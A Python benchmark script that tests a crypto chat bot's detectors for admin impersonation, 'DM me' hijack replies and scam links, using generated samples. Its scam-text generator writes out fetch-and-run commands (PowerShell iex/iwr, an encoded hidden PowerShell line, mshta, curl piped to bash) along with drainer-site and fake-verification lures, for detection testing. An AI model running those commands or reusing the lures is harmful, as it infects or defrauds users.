"""Benchmark of the community-protection detectors on generated names and replies.

    python benchmarks/protection_bench.py [--seed 7] [--scale 1.0]

Seeded, no network. It prints, per category, how many were flagged:

* impersonating names (>= 2,000 at scale 1): made from a set of admin names
  with homoglyphs, spacing, suffixes ("_support", " | Official"), swapped
  and doubled letters, digits for letters, emoji decoration, and a few
  generic role/brand names ("Binance Support"); target >= 95% caught;
* ordinary names (>= 20,000): display names from Faker's bundled locale
  lists (the optional `bench` extra: `pip install -e ".[bench]"`; a small
  built-in list when Faker is missing) in 20 locales, with realistic
  handles; target < 0.2% flagged;
* "DM me" hijack replies (>= 500), target >= 95% caught, and ordinary
  helpful replies (>= 5,000), target < 0.5% flagged;
* scam links and texts (WalletConnect URIs, drainer pages, fake
  verification bots, paste-this commands) caught, and ordinary chat with
  links flagged by them.

The real admins and the bot are checked too: never flagged. Timings are
printed, never asserted.
"""
from __future__ import annotations

import argparse
import random
import string
import sys
import time
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from bot.safety import Admin, check_member, find_hijack  # noqa: E402
from bot.safety.scams import find_scam  # noqa: E402

ADMINS = [
    Admin(101, "Mike Chen", "mikechen_bnb"), Admin(102, "Sarah Kim", "sarahkim"),
    Admin(103, "Alex | BNB Chain", "alex_bnbchain"), Admin(104, "CryptoDaniel", "cryptodaniel"),
    Admin(105, "Olena Petrenko", "olena_p"), Admin(106, "Raj Patel", "rajpatel88"),
    Admin(107, "Lucas 🔶", "lucas_mod"), Admin(108, "Emma Walsh", "emmawalsh"),
    Admin(109, "Tomasz Nowak", "tomasz_n"), Admin(110, "Jin Wei", "jinwei_cn"),
    Admin(111, "Fatima Zahra", "fatimazahra"), Admin(112, "Carlos Ruiz", "carlosruiz"),
    Admin(113, "Hannah", "hannah_bsc"), Admin(114, "Kenji Sato", "kenjisato"),
]
BOT_ID = 999

HOMOGLYPHS = {"a": "аɑα", "e": "еҽ", "o": "оοօ", "i": "іɩι", "c": "сϲ", "p": "рρ", "s": "ѕ", "x": "хχ",
              "y": "уү", "h": "һ", "j": "ј", "k": "κ", "n": "ո", "A": "АΑ", "B": "ВΒ", "C": "С",
              "E": "ЕΕ", "H": "НΗ", "K": "КΚ", "M": "МΜ", "O": "ОΟ", "P": "РΡ", "T": "ТΤ", "X": "Х",
              "l": "Ӏ", "d": "ԁ", "w": "ԝ", "S": "Ѕ", "J": "Ј"}
LEET = {"o": "0", "i": "1", "e": "3", "a": "4", "s": "5", "l": "1", "t": "7"}
SUFFIXES = ["_support", "_official", " Support", " Official", "_admin", " | Admin", " (Admin)", "_help",
            " Support Team", " | Official", "_mod", " Mod", ".support", "_helpdesk", " Customer Support",
            "Support", "Official", "_Admin_BNB", " - Binance Support"]
PREFIXES = ["Official ", "Admin ", "Support ", "Real ", "official_", "support_", "admin_", "The Real "]
EMOJI = ["🔶", "✅", "🛡️", "⭐", "💎", "🔥", "☑️", "✔️", "🟡", "👑", "🤝", "📢", "⚡", "🎯"]
GENERIC = ["Binance Support", "BNB Chain Admin", "MetaMask Help Desk", "Binance_Support_Team",
           "Support Team", "Trust Wallet Support", "Binance Customer Care", "BNB Official", "Admin",
           "A D M I N", "Moderator", "PancakeSwap Support", "Binance Angel", "bnbchain_helpdesk",
           "Official Support", "Binance Help Center", "BSC Moderator", "Customer Support", "Metamask Official"]


def _homoglyph(rng: random.Random, name: str) -> str:
    spots = [i for i, c in enumerate(name) if c in HOMOGLYPHS]
    chars = list(name)
    for i in rng.sample(spots, k=min(len(spots), rng.randint(1, 3))):
        chars[i] = rng.choice(HOMOGLYPHS[chars[i]])
    return "".join(chars)


def _spaced(rng: random.Random, name: str) -> str:
    sep = rng.choice([" ", ".", "-", "_", "·"])
    gap = rng.choice(["  ", "   ", " | "]) if sep == " " else rng.choice([" ", "  "])
    return gap.join(sep.join(word) for word in name.split())


def _swap(rng: random.Random, name: str) -> str:
    spots = [i for i in range(len(name) - 1) if name[i].isalpha() and name[i + 1].isalpha()
             and name[i] != name[i + 1] and i > 0]
    if not spots:
        return name + name[-1]
    i = rng.choice(spots)
    return name[:i] + name[i + 1] + name[i] + name[i + 2:]


def _double(rng: random.Random, name: str) -> str:
    spots = [i for i, c in enumerate(name) if c.isalpha()]
    i = rng.choice(spots)
    return name[:i] + name[i] + name[i:]


def _leet(rng: random.Random, name: str) -> str:
    spots = [i for i, c in enumerate(name) if c in LEET]
    if not spots:
        return name
    i = rng.choice(spots)
    return name[:i] + LEET[name[i]] + name[i + 1:]


def _suffix(rng: random.Random, name: str) -> str:
    return rng.choice([name + rng.choice(SUFFIXES), rng.choice(PREFIXES) + name])


def _emoji(rng: random.Random, name: str) -> str:
    e = rng.choice(EMOJI)
    return rng.choice([f"{e} {name} {e}", f"{name} {e}", f"{e}{name}", f"{name}{e}{rng.choice(EMOJI)}"])


def _invisible(rng: random.Random, name: str) -> str:
    i = rng.randrange(1, len(name))
    return name[:i] + rng.choice(["\u200b", "\u200d", "\u2060", "\u00ad"]) + name[i:]


DISGUISES: dict[str, Callable[[random.Random, str], str]] = {
    "homoglyphs": _homoglyph, "spaced letters": _spaced, "role suffix/prefix": _suffix,
    "swapped letters": _swap, "doubled letter": _double, "digits for letters": _leet,
    "emoji decoration": _emoji, "invisible characters": _invisible,
}


def impersonator(rng: random.Random, kind: str) -> tuple[str, str]:
    """(display name, username) of an account imitating an admin with one or two disguises."""
    admin = rng.choice(ADMINS)
    base = admin.name if rng.random() < 0.75 else admin.username
    name = DISGUISES[kind](rng, base)
    if rng.random() < 0.3:
        name = DISGUISES[rng.choice(list(DISGUISES))](rng, name)
    return name, random_handle(rng)


def generic_impersonator(rng: random.Random) -> tuple[str, str]:
    name = rng.choice(GENERIC)
    if rng.random() < 0.5:
        name = DISGUISES[rng.choice(["homoglyphs", "emoji decoration", "invisible characters"])](rng, name)
    return name, random_handle(rng)


# -- ordinary names -------------------------------------------------------------

LOCALES = ["en_US", "en_GB", "en_IN", "es_ES", "es_MX", "pt_BR", "de_DE", "fr_FR", "it_IT", "nl_NL",
           "pl_PL", "ru_RU", "uk_UA", "tr_TR", "id_ID", "vi_VN", "zh_CN", "ja_JP", "ko_KR", "ar_AA"]
FALLBACK_FIRST = ["James", "Maria", "Wei", "Olga", "Ahmed", "Priya", "Lucas", "Yuki", "Fatima", "John", "Ana",
                  "Ivan", "Chen", "Sofia", "David", "Aisha", "Minh", "Elena", "Omar", "Grace"]
FALLBACK_LAST = ["Smith", "Garcia", "Wang", "Ivanova", "Khan", "Sharma", "Silva", "Tanaka", "Ali", "Brown",
                 "Lopez", "Petrov", "Li", "Rossi", "Nguyen", "Müller", "Kowalski", "Yilmaz", "Santos", "Kim"]
CRYPTO_BITS = ["moon", "hodl", "degen", "whale", "sats", "eth", "doge", "pepe", "ape", "gm", "wagmi", "defi",
               "crypto", "chain", "block", "token", "yield", "farm", "lambo", "diamond", "hands", "trader",
               "alpha", "nft", "web3", "stake", "bull", "bear", "pump", "gwei", "satoshi", "bitcoin"]


def name_source(rng: random.Random) -> Callable[[], tuple[str, str]]:
    """A function giving (first name, last name, user name) from Faker, or from a small built-in list."""
    try:
        from faker import Faker
    except ImportError:
        print("(Faker not installed: using a small built-in name list; pip install -e '.[bench]')")

        def built_in() -> tuple[str, str, str]:
            f, l = rng.choice(FALLBACK_FIRST), rng.choice(FALLBACK_LAST)
            return f, l, f"{f.lower()}{rng.randint(1, 999)}"
        return built_in
    fakers = []
    for i, loc in enumerate(LOCALES):
        fk = Faker(loc)
        fk.seed_instance(rng.randrange(1 << 30) + i)
        fakers.append(fk)
    english = fakers[0]

    def from_faker() -> tuple[str, str, str]:
        fk = rng.choice(fakers)
        user = english.user_name() if rng.random() < 0.6 else fk.user_name()
        return fk.first_name(), fk.last_name(), user
    return from_faker


def random_handle(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.4:
        return "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(5, 9))) + str(rng.randint(0, 999))
    if kind < 0.8:
        return rng.choice(CRYPTO_BITS) + rng.choice(["_", "", "."]) + rng.choice(CRYPTO_BITS) + str(rng.randint(0, 99))
    return ""


def ordinary(rng: random.Random, source: Callable[[], tuple[str, str, str]]) -> tuple[str, str]:
    first, last, user = source()
    style = rng.random()
    if style < 0.35:
        display = f"{first} {last}"
    elif style < 0.55:
        display = first
    elif style < 0.65:
        display = f"{first} {last[0]}."
    elif style < 0.75:
        display = f"{first} {rng.choice(EMOJI)}"
    elif style < 0.85:
        display = f"{first}{rng.randint(1, 2005)}"
    elif style < 0.92:
        display = f"{first} | {rng.choice(CRYPTO_BITS).title()} {rng.choice(CRYPTO_BITS)}"
    else:
        display = user
    username = user if rng.random() < 0.7 else random_handle(rng)
    return display, username


# -- "DM me" replies -------------------------------------------------------------

OPENERS = ["", "Hi, ", "hello dear, ", "Hey bro ", "@{asker} ", "Sorry to hear that. ", "Same happened to me. ",
           "Don't worry, ", "I understand your problem. ", "Kindly ", "gm, ", "This is a known issue. "]
INVITES = ["DM me", "dm me", "PM me", "pm me for help", "inbox me", "message me", "send me a DM",
           "send me a message", "check your DM", "check your inbox", "I have sent you a DM", "I've DMed you",
           "I just messaged you", "DM for assistance", "inbox me now", "text me on WhatsApp", "contact me",
           "write me", "ping me", "let's talk in private", "I can help you in DM", "hmu", "D M me",
           "dm me I will guide you", "my DM is open", "reach out to me", "send me a request", "pm me asap",
           "I will assist you via private message", "drop me a message", "add me on telegram", "message me privately"]
HANDLES = ["@bnb_helpdesk", "@recovery_pro", "@fundsback247", "@Binance_Support_Agent", "@crypto_fixer",
           "@wallet_rectify", "@metamask_helpdesk", "@ethical_hacker_joe", "@support_bsc", "@asset_recovery_team"]
LINKS = ["t.me/bnb_support_desk", "https://t.me/walletfixteam", "wa.me/15551234567", "https://wa.me/447700900123",
         "t.me/+AbCdEf123", "chat.whatsapp.com/Gx7Yt5", "helpdesk.binance@gmail.com", "+1 (555) 201-7788"]
THIRD = ["contact {c}, they helped me", "reach out to {c} for support", "write to {c} they will fix it",
         "message {c} he recovered my funds", "{c} is the official support, contact them",
         "I had the same problem and {c} got my BNB back", "contact support here {c}",
         "recovery expert {c} helped me, trusted", "talk to {c} they are legit",
         "you can reach the support team at {c}", "hire a hacker: {c}", "{c} helped me recover everything",
         "report it to {c} customer support", "chat with {c} 24/7 support", "get in touch with {c} for a refund"]
CLOSERS = ["", " 🙏", ".", " now", " asap", " and I will help you", " so I can guide you step by step",
           ", it's urgent", ", I fixed this for many people", " thanks"]


def disguise_text(rng: random.Random, text: str) -> str:
    roll = rng.random()
    if roll < 0.1:
        return text.replace("DM", "D M").replace("dm", "d m") if "dm" in text.lower() else text
    if roll < 0.2:
        return "".join(rng.choice(HOMOGLYPHS[c]) if c in HOMOGLYPHS and rng.random() < 0.2 else c for c in text)
    if roll < 0.25:
        return text.replace("m", "m\u200b", 1)
    return text


def hijack(rng: random.Random) -> str:
    opener = rng.choice(OPENERS).format(asker="anna_k")
    if rng.random() < 0.55:
        body = rng.choice(INVITES)
    else:
        body = rng.choice(THIRD).format(c=rng.choice(HANDLES + LINKS))
    return disguise_text(rng, opener + body + rng.choice(CLOSERS))


COINS = ["BNB", "USDT", "CAKE", "ETH", "BUSD", "USDC"]
APPS = ["MetaMask", "Trust Wallet", "the Binance app", "SafePal", "PancakeSwap"]
HELPFUL = [
    "Which network did you choose when you withdrew the {coin}?",
    "Send the tx hash here and we can look at it on bscscan.",
    "You sent it on BEP20, so add the BNB Smart Chain network in {app} and it will show up.",
    "Never share your seed phrase with anyone, not even admins.",
    "Admins will never DM you first, ignore anyone who messages you privately.",
    "Don't DM anyone who offers help, they are scammers.",
    "Please contact Binance support through the chat in the app, not on Telegram.",
    "Check the pinned message, it explains how to add the token manually.",
    "@{asker} try importing the token with the contract address from bscscan.",
    "@{asker} did you use the right memo?",
    "Withdrawals can take 30 minutes when the network is busy, just wait a bit.",
    "Go to Settings > Networks in {app} and switch to BNB Smart Chain.",
    "Beware of people sending you a DM offering recovery, it's always a scam.",
    "Like @{other} said, the bridge takes a few minutes.",
    "Ask here in the group, someone will help you.",
    "You can message me here in the group if you have more questions.",
    "Reply here with a screenshot (hide your balance) and we'll check.",
    "If you lost your phrase nobody can recover the wallet, sorry.",
    "The official site is binance.com, type it yourself.",
    "Open a support ticket on binance.com, that's the only real support.",
    "Follow @BNBCHAIN for announcements about the upgrade.",
    "I had the same issue, re-adding the network fixed it for me.",
    "Did you send {coin} to an exchange address? Then ask the exchange's support in their app.",
    "Report and block anyone who DMs you saying they are support.",
    "It's a known delay, the team posted about it an hour ago.",
    "Try clearing the cache of {app} and restart the phone.",
    "Your tokens are safe, they're on BSC, you just need to add the network.",
    "gas fees on BSC are tiny, keep a little BNB for them.",
    "Can you share the transaction hash? Without it we can't tell.",
    "No admin will ever ask for your private key or message you first.",
    "@{asker} what does bscscan say, success or failed?",
    "Use the official bridge only, the link is in the pinned message.",
    "Welcome! Read the FAQ pinned above before asking.",
    "Please don't message me privately, ask here so everyone can learn.",
    "Contact your wallet's support through their website, never via DM.",
    "I think you need to wait for 15 confirmations.",
    "Did you check if the deposit needs a memo? {coin} on BEP2 needed one.",
    "Same here, it arrived after 20 minutes.",
    "{coin} on opBNB is a different network from BSC.",
    "Don't click links from people who DM you.",
    "The support team answers tickets within a day, be patient.",
    "@{other} is right, swapping on PancakeSwap needs BNB for gas.",
]
TAILS = ["", " 👍", " Good luck!", " Hope that helps.", " 🙏", " Let us know.", " Cheers"]


def helpful(rng: random.Random) -> str:
    text = rng.choice(HELPFUL).format(coin=rng.choice(COINS), app=rng.choice(APPS), asker="anna_k",
                                      other=rng.choice(["mike", "sara_d", "kenji", "cryptodan"]))
    if rng.random() < 0.3:
        text = text.lower()
    return text + rng.choice(TAILS)


# -- scam links and texts ---------------------------------------------------------

def scam_text(rng: random.Random) -> str:
    hexs = lambda n: rng.randbytes(n).hex()
    kind = rng.randrange(4)
    if kind == 0:
        uri = f"wc:{hexs(32)}@2?relay-protocol=irn&symKey={hexs(32)}"
        return rng.choice(["scan this to connect: {u}", "{u}", "paste this in your wallet {u} to fix the sync",
                           "connect with this code {u}"]).format(u=uri)
    if kind == 1:
        host = rng.choice(["dapps-rectify.net", "walletsync.app", "defi-validate.com", "claim-bnb.xyz",
                           "secure-node-fix.org", "migrate-tokens.io", "wallet-connect-fix.site",
                           "multichain-restore.live", "airdrop-portal.online", "app-whitelist.top"])
        return rng.choice(["go to https://{h} and validate your wallet", "sync your wallet here: {h}",
                           "{h} fixes it, just connect", "claim your rewards at https://{h}/claim",
                           "rectify your wallet on {h}", "https://{h}"]).format(h=host)
    if kind == 2:
        bot = rng.choice(["SafeguardRobot", "safeguard_verify_bot", "CaptchaGuardBot", "VerifyHumanBot",
                          "GroupShieldBot", "safeguardportal", "AuthPortalBot"])
        return rng.choice(["Verify you are human: t.me/{b}", "tap to verify https://t.me/{b}?start=verify",
                           "To join the chat complete verification at t.me/{b}", "t.me/{b}"]).format(b=bot)
    return rng.choice([
        "Press Win+R, paste the code and press Enter to verify you are human",
        "open powershell and paste this: iex (iwr 'https://cdn-check.xyz/v.ps1')",
        "Windows key + R, then Ctrl+V and Enter to fix the wallet sync",
        "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
        "copy this into the run box: mshta https://verify-human.site/c.hta",
        "paste this in terminal to unlock your wallet: curl -s https://fix.sh | bash",
    ])


def ordinary_with_links(rng: random.Random) -> str:
    return rng.choice([
        "check your tx on https://bscscan.com/tx/0x{h}", "docs: https://docs.bnbchain.org/bnb-smart-chain/",
        "use https://chainlist.org to add BSC to metamask", "revoke approvals at https://revoke.cash",
        "price is on coingecko.com", "official announcement channel t.me/BNBchain",
        "the bridge is at https://www.bnbchain.org/en/bnb-chain-bridges", "I verified the contract on bscscan.com",
        "connect your wallet to pancakeswap.finance and swap", "synced my ledger with ledger live, all good",
        "claim is open on the official site binance.com, check the announcement",
        "run `npm install ethers` then node script.js", "I restored my wallet in metamask with my own phrase, all fine",
        "Open a ticket at https://www.binance.com/en/support", "read https://metamask.io/faqs for help",
        "you need to verify your account on binance.com (KYC) before withdrawing",
    ]).format(h=rng.randbytes(32).hex())


# -- running ------------------------------------------------------------------------

class Table:
    def __init__(self) -> None:
        self.rows: list[tuple[str, str, int, int, str]] = []
        self.times: list[float] = []

    def measure(self, section: str, name: str, items: list, hit: Callable[[object], bool], bar: str) -> int:
        flagged = 0
        for item in items:
            t0 = time.perf_counter()
            flagged += bool(hit(item))
            self.times.append(time.perf_counter() - t0)
        self.rows.append((section, name, len(items), flagged, bar))
        return flagged

    def print(self) -> None:
        section = None
        for sec, name, n, flagged, bar in self.rows:
            if sec != section:
                print(f"\n{sec}")
                section = sec
            print(f"  {name:<34} {n:>7,} {flagged:>8,} {100.0 * flagged / n:7.3f}%   {bar}")
        t = sorted(self.times)
        print(f"\ncheck time per item: mean {1e3 * sum(t) / len(t):.3f} ms, "
              f"p99 {1e3 * t[int(len(t) * 0.99)]:.3f} ms, max {1e3 * t[-1]:.1f} ms over {len(t):,} items")


def member_flagged(pair: tuple[str, str]) -> bool:
    return check_member(pair[0], pair[1], ADMINS, member_id=hash(pair), bot_id=BOT_ID).flagged


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--scale", type=float, default=1.0, help="multiply every count (0.1 for a quick run)")
    ap.add_argument("--show", type=int, default=0, help="print up to N misses and false flags of each kind")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    n = lambda k: max(1, int(k * args.scale))
    table = Table()
    shown: list[str] = []

    def keep(kind: str, items: list, flags: Callable[[object], bool], want: bool) -> None:
        if args.show:
            odd = [i for i in items if flags(i) != want][: args.show]
            shown.extend(f"{kind}: {i!r}" for i in odd)

    sec = "impersonating names (caught / n; target >= 95%)"
    everyone: list[tuple[str, str]] = []
    per_kind = n(2000) // len(DISGUISES) + 1
    for kind in DISGUISES:
        items = [impersonator(rng, kind) for _ in range(per_kind)]
        everyone += items
        table.measure(sec, kind, items, member_flagged, "per disguise")
        keep(kind, items, member_flagged, True)
    generic = [generic_impersonator(rng) for _ in range(n(250))]
    everyone += generic
    table.measure(sec, "generic role / brand names", generic, member_flagged, "per disguise")
    keep("generic", generic, member_flagged, True)
    table.measure(sec, "all impersonating names", everyone, member_flagged, "target >= 95%")

    sec = "ordinary names (flagged / n; target < 0.2%)"
    source = name_source(rng)
    names = [ordinary(rng, source) for _ in range(n(20000))]
    table.measure(sec, "ordinary members (name + handle)", names, member_flagged, "target < 0.2%")
    keep("ordinary", names, member_flagged, False)
    admins_self = [a for a in ADMINS]
    table.measure(sec, "the admins themselves", admins_self,
                  lambda a: check_member(a.name, a.username, ADMINS, member_id=a.id, bot_id=BOT_ID).flagged,
                  "must be 0")
    table.measure(sec, "the bot itself", [("BNB Route Support Bot", "bnb_route_bot")],
                  lambda p: check_member(p[0], p[1], ADMINS, member_id=BOT_ID, bot_id=BOT_ID).flagged, "must be 0")

    sec = "\"DM me\" replies"
    hijack_flag = lambda t: find_hijack(t, asker=["anna_k"]).flagged
    hijacks = [hijack(rng) for _ in range(n(500))]
    table.measure(sec, "hijack replies caught", hijacks, hijack_flag, "target >= 95%")
    keep("hijack", hijacks, hijack_flag, True)
    replies = [helpful(rng) for _ in range(n(5000))]
    table.measure(sec, "ordinary helpful replies flagged", replies, hijack_flag, "target < 0.5%")
    keep("helpful", replies, hijack_flag, False)

    sec = "scam links and texts (link guard)"
    allowed = ("binance.com", "binance.us", "binance.org", "bnbchain.org", "metamask.io", "bscscan.com",
               "github.com/bnb-chain", "intercom.help/binance-us")
    scam_flag = lambda t: find_scam(t, allowed) is not None
    scams = [scam_text(rng) for _ in range(n(1000))]
    table.measure(sec, "scam links and texts caught", scams, scam_flag, "target >= 95%")
    keep("scam", scams, scam_flag, True)
    benign = [ordinary_with_links(rng) for _ in range(n(2000))] + [helpful(rng) for _ in range(n(2000))]
    table.measure(sec, "ordinary messages flagged", benign, scam_flag, "target < 0.2%")
    keep("benign", benign, scam_flag, False)

    table.print()
    if shown:
        print("\nexamples:")
        for line in shown:
            print("  " + line)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
